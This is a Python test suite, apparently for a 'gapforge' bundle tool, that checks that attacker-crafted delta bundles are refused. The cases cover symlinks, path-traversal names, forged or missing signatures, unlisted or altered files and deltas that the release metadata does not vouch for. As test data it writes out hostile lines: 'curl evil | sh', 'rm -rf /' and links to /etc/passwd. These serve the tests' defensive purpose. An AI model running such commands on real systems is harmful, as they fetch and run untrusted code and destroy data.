"""`gapforge join` of a delta written by an attacker: links to host files, names that are paths,
altered or missing signatures, a delta signed for another anchor, unlisted files. Each is refused
before a blob is read or a byte written outside --out; the genuine delta still joins. And
`make_delta` never shares an inode with the released bundle."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gapforge.bundle.sign import SigningKey, write_key_pair
from gapforge.bundle.sign import sign as sign_bytes
from gapforge.operator.anchor import Anchor
from gapforge.operator.delta_check import check_delta
from gapforge.operator.transfer_trust import TransferNotTrusted
from gapforge.release_manager.delta import against_bundle, make_delta
from gapforge.release_manager.maintenance import export
from gapforge.release_manager.releases import promote
from tests.hostile.conftest import Hostile
from tests.unit.test_bundle import _key, source  # noqa: F401 (fixture)
from tests.unit.test_delta import bundles  # noqa: F401 (fixture)
from tests.unit.test_release import world  # noqa: F401 (fixture)


@pytest.fixture
def delta(
    hostile: Hostile,
    bundles: tuple[Path, Path],  # noqa: F811 (the imported fixture)
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> tuple[Path, Path, Path]:
    """A genuine delta of the new bundle against the old one, in `hostile.inputs`; the old bundle
    (what the site holds); the release key's public half (--key)."""
    monkeypatch.setenv("GAPFORGE_TRUST_DIR", str(tmp_path / "trust"))
    old, new = bundles
    made = make_delta(new, against_bundle(old), hostile.inputs).path
    pub = tmp_path / "release.pub.pem"
    pub.write_bytes(_key(tmp_path).public_pem)
    return made, old, pub


def join(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str], *more: str
) -> tuple[int, str]:
    folder, old, pub = delta
    argv = ["join", folder, "--from", old, "--out", hostile.out, *more]
    return hostile.run(*argv, *(["--key", pub] if "--insecure" not in more else []), capsys=capsys)


def resign(folder: Path, key: SigningKey, change: Callable[[dict[str, Any]], None]) -> None:
    """Change bundle.json, write its new SHA256SUMS line, and sign SHA256SUMS with `key` (and ship
    that key's public half, as an attacker would)."""
    index = json.loads((folder / "bundle.json").read_bytes())
    change(index)
    data = json.dumps(index).encode()
    (folder / "bundle.json").write_bytes(data)
    lines = (folder / "SHA256SUMS").read_text().splitlines()
    digest = hashlib.sha256(data).hexdigest()
    lines = [f"{digest}  bundle.json" if line.endswith("  bundle.json") else line for line in lines]
    sums = ("\n".join(lines) + "\n").encode()
    (folder / "SHA256SUMS").write_bytes(sums)
    (folder / "SHA256SUMS.sig").write_bytes(sign_bytes(key, sums))
    (folder / "signing-key.pub.pem").write_bytes(key.public_pem)


def test_the_genuine_delta_joins_and_verifies(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    status, text = join(hostile, delta, capsys)
    assert status == 0, text
    assert (hostile.out / "unit-desk-2.0.0" / "image.tar").is_file()
    assert [p.name for p in hostile.out.iterdir()] == ["unit-desk-2.0.0"]  # no work folder left


@pytest.mark.parametrize(
    ("name", "target"),
    [("recipe/stolen", "/etc/passwd"), ("recipe/root", "/"), ("wheels", "/usr/lib"),
     ("recipe/canary", "CANARY"), ("delta/blobs/sha256/link", "/etc/passwd")],
)  # fmt: skip
def test_links_in_a_delta_are_refused_never_followed(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
    name: str, target: str,
) -> None:  # fmt: skip
    folder = delta[0]
    link = folder / name
    if link.is_dir():
        os.rename(link, folder / "moved-away")
    link.symlink_to(hostile.canary if target == "CANARY" else Path(target))
    status, text = join(hostile, delta, capsys)
    assert status == 2 and "is a symbolic link" in text and "no link is ever followed" in text, text
    assert not hostile.out.exists()


NAMES = ["../outside/x", "/etc/x", "..", "a\nb", "a\x00b", "a/b", "", "-x", 7, None]


@pytest.mark.parametrize("field", ["name", "version"])
@pytest.mark.parametrize("value", NAMES)
def test_bundle_json_names_that_are_paths_are_refused_even_when_signed(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
    tmp_path: Path, field: str, value: object,
) -> None:  # fmt: skip
    resign(delta[0], _key(tmp_path), lambda index: index.__setitem__(field, value))
    status, text = join(hostile, delta, capsys)
    assert status == 2 and f"bundle.json: {field}: " in text and "is refused" in text, text
    assert not hostile.out.exists()


def test_an_absolute_name_pointing_outside_is_refused(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:  # fmt: skip
    resign(delta[0], _key(tmp_path), lambda index: index.__setitem__("name", str(hostile.outside)))
    status, text = join(hostile, delta, capsys)
    assert status == 2 and "absolute" in text, text


def test_a_delta_signed_for_another_anchor_fails_the_check(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:  # fmt: skip
    resign(delta[0], _key(tmp_path, 7), lambda index: index.__setitem__("description", "evil"))
    status, text = join(hostile, delta, capsys)
    assert status == 1 and "does not prove SHA256SUMS with a key the trust anchor names" in text
    assert not hostile.out.exists()


@pytest.mark.parametrize("signature", [b"\0" * 64, b"\1" * 10, b"", None])
def test_a_zero_short_empty_or_missing_signature_fails(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
    signature: bytes | None,
) -> None:  # fmt: skip
    path = delta[0] / "SHA256SUMS.sig"
    if signature is None:
        path.unlink()
    else:
        path.write_bytes(signature)
    status, text = join(hostile, delta, capsys)
    assert status in (1, 2), text
    assert ("does not prove SHA256SUMS" in text) if signature is not None else ("missing" in text)
    assert not hostile.out.exists()


def test_bundle_json_altered_without_its_line_fails(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    path = delta[0] / "bundle.json"
    path.write_bytes(path.read_bytes().replace(b"unit-desk", b"unit-dusk"))
    status, text = join(hostile, delta, capsys)
    assert status == 1 and "does not match its SHA256SUMS line" in text, text


def test_a_file_sha256sums_does_not_list_is_refused(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    (delta[0] / "recipe" / "extra.sh").write_text("curl evil | sh\n")
    status, text = join(hostile, delta, capsys)
    assert status == 1 and "a file SHA256SUMS does not list" in text, text


def test_a_listed_file_altered_is_caught_by_the_gate_before_the_rename(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    runbook = delta[0] / "RUNBOOK.md"
    runbook.write_text(runbook.read_text() + "\nrm -rf /\n")
    status, text = join(hostile, delta, capsys)
    assert status == 1 and "not verified" in text and "RUNBOOK.md" in text, text
    assert not hostile.out.exists() or not any(hostile.out.iterdir())


def test_insecure_takes_the_delta_own_key_but_still_parses_names(
    hostile: Hostile, delta: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:  # fmt: skip
    resign(delta[0], _key(tmp_path, 9), lambda index: index.__setitem__("name", "../outside/x"))
    status, text = join(hostile, delta, capsys, "--insecure")
    assert status == 2 and "is refused" in text, text


def test_make_delta_shares_no_inode_with_the_released_bundle(
    bundles: tuple[Path, Path],  # noqa: F811 (the imported fixture)
    tmp_path: Path,
) -> None:
    old, new = bundles
    made = make_delta(new, against_bundle(old), tmp_path / "out").path
    released = {p.relative_to(new): p.read_bytes() for p in new.rglob("*") if p.is_file()}
    copied = [p for p in made.rglob("*") if p.is_file() and p.relative_to(made) in released]
    assert copied, "the delta carries the bundle's small files"
    for path in copied:
        assert os.stat(path).st_nlink == 1
        assert os.stat(path).st_ino != os.stat(new / path.relative_to(made)).st_ino
        path.chmod(0o644)
        path.write_bytes(b"edited in the delta\n")
    assert {p.relative_to(new): p.read_bytes() for p in new.rglob("*") if p.is_file()} == released


# --- under the trusted root: the delta's SHA256SUMS must be a release the verified TUF lists ---


def _root_delta(site: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Anchor]:
    """The release repository's bundle as a delta folder would carry it (no image.tar), with its
    release metadata; the site trusts the repository's root."""
    repo, bundle = site["repo"], site["bundle"]
    promote(repo, "tiny-desk-0.1.0", [])
    export(repo, bundle)
    monkeypatch.setenv("GAPFORGE_TRUST_DIR", str(site["trust"]))
    folder = site["tmp"] / "tiny-desk-0.1.0.delta"
    shutil.copytree(bundle, folder, ignore=shutil.ignore_patterns("image.tar"))
    (folder / "delta").mkdir()
    return folder, Anchor("root", (), "the trusted root")


def test_root_anchor_proves_a_released_delta_by_a_build_key(
    world: dict[str, Any],  # noqa: F811 (the imported fixture)
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    folder, anchor = _root_delta(world, monkeypatch)
    checked = check_delta(folder, anchor)
    assert checked.label == "tiny-desk-0.1.0" and checked.pinned


@pytest.mark.parametrize("attack", ["resigned", "unreleased", "no-metadata", "foreign-signature"])
def test_root_anchor_refuses_a_delta_the_release_metadata_does_not_vouch_for(
    world: dict[str, Any],  # noqa: F811 (the imported fixture)
    monkeypatch: pytest.MonkeyPatch,
    attack: str,
) -> None:
    folder, anchor = _root_delta(world, monkeypatch)
    attacker = write_key_pair(world["tmp"] / "attacker.key")
    if attack == "resigned":  # the attacker's own key, shipped beside the delta
        resign(folder, attacker, lambda index: index.__setitem__("description", "evil"))
    elif attack == "unreleased":
        resign(folder, attacker, lambda index: index.__setitem__("version", "9.9.9"))
    elif attack == "no-metadata":
        shutil.rmtree(folder / "release")
    else:  # the released SHA256SUMS, signed again by the attacker, with the attacker's key beside it
        sums = (folder / "SHA256SUMS").read_bytes()
        (folder / "SHA256SUMS.sig").write_bytes(sign_bytes(attacker, sums))
        (folder / "signing-key.pub.pem").write_bytes(attacker.public_pem)
    with pytest.raises(TransferNotTrusted) as caught:
        check_delta(folder, anchor)
    expected = {"resigned": "this is not the bundle that was released",
                "unreleased": "not on channel approved",
                "no-metadata": "no release metadata",
                "foreign-signature": "does not prove SHA256SUMS"}[attack]  # fmt: skip
    assert expected in caught.value.message and caught.value.exit_status == 1
